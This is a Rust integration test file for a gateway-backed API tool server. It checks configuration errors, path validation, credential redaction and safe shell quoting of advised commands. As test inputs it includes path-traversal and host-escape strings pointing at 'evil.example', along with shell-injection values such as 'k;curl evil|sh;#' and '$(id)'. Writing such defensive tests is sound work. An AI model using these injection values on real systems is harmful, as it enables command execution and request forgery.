//! The tools: their configuration, their requests, and their advice.

use std::process::Command;
use std::time::Duration;

use nexus_sdk::testing::{DevGateway, Fault, Provider};
use serde_json::{Value, json};

use crate::client::{Client, command};

pub(crate) fn configured(gateway: &DevGateway) -> Command {
    let mut command = command();
    command
        .env("NEXUS_GATEWAY_URL", gateway.url())
        .env("UPSTREAM_URL", gateway.url());
    command
        .env("WORKSPACE_ID", "it's mine")
        .env("PROVIDER", "github");
    command
}

fn connected() -> (DevGateway, String, Client) {
    let gateway = DevGateway::start().unwrap();
    let connection = gateway.connect("it's mine", "github").unwrap();
    let client = Client::start(&mut configured(&gateway)).begin("2025-11-25");
    (gateway, connection, client)
}

#[test]
fn missing_configuration_is_one_clear_line() {
    let gateway = DevGateway::start().unwrap();
    for name in [
        "NEXUS_GATEWAY_URL",
        "UPSTREAM_URL",
        "WORKSPACE_ID",
        "PROVIDER",
    ] {
        for broken in [None, Some(" ")] {
            let mut command = configured(&gateway);
            match broken {
                Some(blank) => command.env(name, blank),
                None => command.env_remove(name),
            };
            let output = command.output().unwrap();
            let errors = String::from_utf8(output.stderr).unwrap();
            assert_eq!(output.status.code(), Some(2));
            assert!(
                errors.contains(name) && errors.lines().count() == 1,
                "{errors}"
            );
            assert!(output.stdout.is_empty());
        }
    }
}

#[test]
fn wrong_configuration_is_one_clear_line() {
    let gateway = DevGateway::start().unwrap();
    let table = [
        ("UPSTREAM_URL", "api.example.com"),
        ("UPSTREAM_URL", "ftp://api.example.com"),
        ("UPSTREAM_URL", "https://me:secret@api.example.com"),
        ("UPSTREAM_URL", "https://api.example.com?x=1"),
        ("UPSTREAM_URL", "https://api.example.com/#x"),
        ("NEXUS_GATEWAY_URL", "gateway"),
        ("NEXUS_LOCK_DIR", "relative/locks"),
    ];
    for (name, value) in table {
        let output = configured(&gateway).env(name, value).output().unwrap();
        let errors = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(2), "{name}={value}");
        let hint = match name {
            "NEXUS_GATEWAY_URL" => "gateway_url",
            _ => name,
        };
        assert!(
            errors.contains(hint) && errors.lines().count() == 1,
            "{errors}"
        );
        assert!(!errors.contains("secret"), "{errors}");
    }
    assert_eq!(
        command().arg("--no-such").output().unwrap().status.code(),
        Some(2)
    );
}

#[test]
fn the_tools_return_what_the_api_says() {
    let (gateway, _, mut client) = connected();
    let listed = client.ask("tools/list", json!({}))["result"]["tools"].take();
    assert_eq!(listed.as_array().unwrap().len(), 4);
    let repos = client.text("list_repos", &json!({"limit": 2})).unwrap();
    let repos: Value = serde_json::from_str(&repos).unwrap();
    assert_eq!(repos["repositories"].as_array().unwrap().len(), 2);
    assert!(
        client
            .text("get_user", &json!({}))
            .unwrap()
            .contains("it's mine")
    );
    let created = json!({"method": "POST", "path": "/user/repos", "body": {"name": "new"}});
    assert!(client.text("fetch", &created).unwrap().contains("\"new\""));
    assert!(
        client
            .text("fetch", &json!({"path": "/user/repos?per_page=1"}))
            .unwrap()
            .contains("hello-world")
    );
    assert_eq!(gateway.count("/v1/resolve"), 1);
}

#[test]
fn a_tool_writes() {
    let gateway = DevGateway::builder()
        .connection("it's mine", "github")
        .upstream_route(
            "PUT",
            "/user/starred/octo%2Fcat/a%20b",
            204,
            "text/plain",
            "",
        )
        .start()
        .unwrap();
    let mut client = Client::start(&mut configured(&gateway)).begin("2025-11-25");
    let starred = json!({"owner": "octo/cat", "repository": "a b"});
    let text = client.text("star", &starred).unwrap();
    assert_eq!(text, "HTTP 204 No Content, no body");
    let written = gateway.requests().pop().unwrap();
    assert_eq!(written.method, "PUT");

    let unknown = json!({"owner": "octo", "repository": "none"});
    let problem = client.text("star", &unknown).unwrap_err();
    assert!(problem.contains("HTTP 404"), "{problem}");
    // Segments of dots would leave the path.
    let dots = json!({"owner": "..", "repository": ".."});
    assert!(
        client
            .text("star", &dots)
            .unwrap_err()
            .contains("invalid_input")
    );

    let mut demo = Client::of("2025-11-25");
    let starred = json!({"owner": "demo", "repository": "hello-world"});
    assert!(demo.text("star", &starred).is_ok());
}

#[test]
fn a_path_does_not_leave_the_api() {
    let (gateway, _, mut client) = connected();
    let paths = [
        "",
        "user",
        "//evil.example",
        "http://evil.example/",
        "https:evil.example",
        r"/\evil.example",
        r"\\evil.example",
        "@evil.example/",
        ":80@evil.example",
        ".evil.example",
        "/a/../b",
        "/%2e%2E/b",
        "/..%2fadmin",
        "/%252e%252e/admin",
        "/..;/admin",
        "/a/..\\admin",
        "/a b",
        "/a\r\nHost: evil",
        "/a\u{0}",
        "?x",
        "#x",
    ];
    let own = format!("{}/user", gateway.url());
    for path in paths.into_iter().chain([&*own]) {
        let problem = client.text("fetch", &json!({"path": path})).unwrap_err();
        let expected = if path.starts_with('/') {
            "invalid_input: url: "
        } else {
            "must begin with a slash"
        };
        assert!(problem.contains(expected), "{path}: {problem}");
    }
    assert_eq!(gateway.count(""), 0);
    for path in [
        "/user?x=//evil.example",
        "/@evil.example/user",
        "/a//b/user",
        "/user#//evil",
    ] {
        assert!(
            client.text("fetch", &json!({"path": path})).is_ok(),
            "{path}"
        );
    }
}

#[test]
fn failures_say_what_to_do() {
    let gateway = DevGateway::start().unwrap();
    let connection = gateway.connect("it's mine", "github").unwrap();
    let mut client = configured(&gateway);
    client
        .env("CONNECT", "off")
        .env("SCOPES", "repo, user:email");
    let mut client = Client::start(&mut client).begin("2025-11-25");
    let connect = format!(
        "NEXUS_GATEWAY_URL={} nexus connect --workspace='it'\\''s mine' --provider=github --scope=repo --scope=user:email",
        gateway.url()
    );
    let mut fails = |expected: &[&str]| {
        let problem = client.text("get_user", &json!({})).unwrap_err();
        assert!(
            expected.iter().all(|part| problem.contains(part)),
            "{problem}"
        );
    };
    gateway.set_status(&connection, "attention");
    for status in ["attention", "revoked", "pending"] {
        gateway.set_status(&connection, status);
        fails(&["has to connect github", &connect]);
    }
    gateway.set_status(&connection, "active");
    let gateway_faults = [
        (Fault::Status(503), "Retry in a moment"),
        (
            Fault::RetryAfter {
                status: 429,
                value: "7".into(),
            },
            "Retry in 7 s",
        ),
        (Fault::Status(401), "check NEXUS_API_KEY"),
    ];
    for (fault, expected) in gateway_faults {
        gateway.fail_next_at("/v1/resolve", 1, fault);
        fails(&[expected]);
    }
    let api_faults = [
        (
            Fault::reply(404, "text/plain", "no such"),
            "HTTP 404 Not Found. Check the path",
        ),
        (Fault::Status(403), "more scopes"),
        (
            Fault::RetryAfter {
                status: 429,
                value: "9".into(),
            },
            "Retry-After: 9",
        ),
        (Fault::Status(500), "Retry later"),
        (Fault::Status(302), "HTTP 302"),
    ];
    for (fault, expected) in api_faults {
        gateway.fail_next_at("/user", 1, fault);
        fails(&[expected]);
    }
    gateway.fail_next_at("/user", 2, Fault::Status(401));
    fails(&["connect the account again"]);
}

/// Runs the command in a shell, in which `nexus` prints its arguments.
#[cfg(unix)]
#[test]
fn a_command_in_an_advice_is_quoted_for_a_shell() {
    for word in [
        "k;curl evil|sh;#",
        "$(id) `id`",
        "-x",
        r#"it's "\*?~&>{a,b}"#,
        "a\tb",
    ] {
        let gateway = DevGateway::start().unwrap();
        let missing = r#"{"error": "connection_not_found"}"#;
        let missing = Fault::reply(404, "application/json", missing);
        gateway.fail_next_at("/v1/resolve", 1, missing);
        let mut command = configured(&gateway);
        command
            .env("CONNECT", "off")
            .env("SCOPES", "-y k;curl|sh;#");
        command.env("WORKSPACE_ID", word).env("PROVIDER", word);
        let mut client = Client::start(&mut command).begin("2025-11-25");
        let problem = client.text("get_user", &json!({})).unwrap_err();
        let (_, advised) = problem.split_once("Run: ").expect(&problem);
        let script = format!("nexus() {{ printf '%s\\n' \"$@\"; }}; {advised}");
        let ran = Command::new("sh").args(["-c", &script]).output().unwrap();
        let expected = format!(
            "connect\n--workspace={word}\n--provider={word}\n--scope=-y\n--scope=k;curl|sh;#\n"
        );
        assert_eq!(String::from_utf8(ran.stdout).unwrap(), expected);
    }
}

#[test]
fn responses_that_do_not_fit_a_tools_schema_are_errors() {
    let (gateway, _, mut client) = connected();
    let responses = [
        ("list_repos", "", "is not JSON"),
        ("list_repos", "<html>", "is not JSON"),
        ("list_repos", "{}", "\"repositories\" must be an array"),
        ("list_repos", "[{}, 1]", "item 1 must be an object"),
        ("get_user", "[]", "must be an object"),
    ];
    for (tool, body, expected) in responses {
        let fault = Fault::reply(200, "application/json", body);
        gateway.fail_next_at("/user", 1, fault);
        let problem = client.text(tool, &json!({})).unwrap_err();
        assert!(problem.contains(expected), "{body}: {problem}");
    }
}

#[test]
fn a_body_that_is_not_utf_8_is_described() {
    let (gateway, _, mut client) = connected();
    let latin = "text/html; charset=iso-8859-1";
    for (content_type, shown) in [(latin, latin), ("", "none")] {
        gateway.fail_next_at("/user", 1, Fault::reply(200, content_type, b"caf\xe9"));
        let text = client.text("fetch", &json!({"path": "/user"})).unwrap();
        let expected = format!("(4 bytes that are not UTF-8 text; Content-Type: {shown})");
        assert_eq!(text, expected);
    }
}

/// Only `UPSTREAM_URL` has placeholders for a credential. A model's path is sent literally.
#[test]
fn a_model_does_not_place_the_credential() {
    let bots = Provider::api_key("bots").strategy(json!({"type": "path"}));
    let gateway = DevGateway::builder().provider(bots);
    let gateway = gateway.connection("it's mine", "bots").start().unwrap();
    let base = format!("{}/bot{{api_key}}", gateway.url());
    let mut command = configured(&gateway);
    command.env("PROVIDER", "bots").env("UPSTREAM_URL", base);
    let mut client = Client::start(&mut command).begin("2025-11-25");
    let paths = [
        ("/user?x={api_key}", "/user?x=%7Bapi_key%7D"),
        ("/user#{api_key}", "/user"),
        ("/{api_key}", "/%7Bapi_key%7D"),
        ("/%7Bapi_key%7D", "/%7Bapi_key%7D"),
        ("/{", "/%7B"),
    ];
    for (path, literal) in paths {
        let (Ok(text) | Err(text)) = client.text("fetch", &json!({"path": path}));
        let sent = gateway.requests().pop().unwrap();
        let query = sent.query.map(|query| format!("?{query}"));
        let target = sent.path + &query.unwrap_or_default();
        let key = target.strip_prefix("/bot").unwrap().strip_suffix(literal);
        let key = key.unwrap_or_else(|| panic!("{path}: {target}"));
        assert!(key.len() > 8 && !key.contains('/'), "{path}: {target}");
        assert!(!text.contains(key), "{path}: {text}");
    }
}

#[test]
fn no_response_holds_a_credential() {
    let (gateway, _, mut client) = connected();
    assert!(client.text("get_user", &json!({})).is_ok());
    let requests = gateway.requests();
    let sent = requests
        .iter()
        .find_map(|request| request.headers.get("authorization"))
        .unwrap();
    let token = sent
        .to_str()
        .unwrap()
        .trim_start_matches("Bearer ")
        .to_owned();
    for status in [200, 400, 500] {
        let fault = Fault::reply(status, "text/plain", format!("you sent {token}!"));
        gateway.fail_next_at("/user", 1, fault);
        let (Ok(text) | Err(text)) = client.text("fetch", &json!({"path": "/user"}));
        assert!(text.contains("you sent [credential]!"), "{text}");
    }
}

#[test]
fn a_slow_upstream_holds_up_no_other_call() {
    let (gateway, _, mut client) = connected();
    assert!(client.text("get_user", &json!({})).is_ok());
    gateway.fail_next_at("/user", 1, Fault::Delay(Duration::from_secs(2)));
    let stuck = client.call("get_user", &json!({}));
    while gateway.count("/user") < 2 {
        std::thread::yield_now();
    }
    assert!(client.text("list_repos", &json!({})).is_ok());
    client.cancel(stuck);
    assert_eq!(client.close(), [] as [Value; 0]);
}

/// Many clients pass on nothing but HOME and the variables of their configuration.
#[cfg(target_os = "linux")]
#[test]
fn the_lock_directory_is_below_home_unless_another_is_named() {
    let home = std::env::temp_dir().join(format!("nexus-mcp-{}", std::process::id()));
    let (usual, other) = (home.join(".local/state/nexus/locks"), home.join("other"));
    let other_text = other.to_str().unwrap();
    let table = [
        (None, Some(&usual)),
        (Some(""), None),
        (Some(other_text), Some(&other)),
    ];
    for (named, expected) in table {
        let (gateway, _) = (DevGateway::start().unwrap(), std::fs::create_dir(&home));
        gateway.connect("it's mine", "github").unwrap();
        let mut command = configured(&gateway);
        command.env("HOME", &home);
        named.map(|named| command.env("NEXUS_LOCK_DIR", named));
        let mut client = Client::start(&mut command).begin("2025-11-25");
        assert!(client.text("get_user", &json!({})).is_ok());
        for directory in [&usual, &other] {
            assert_eq!(directory.is_dir(), Some(directory) == expected, "{named:?}");
        }
        std::fs::remove_dir_all(&home).unwrap();
    }
}
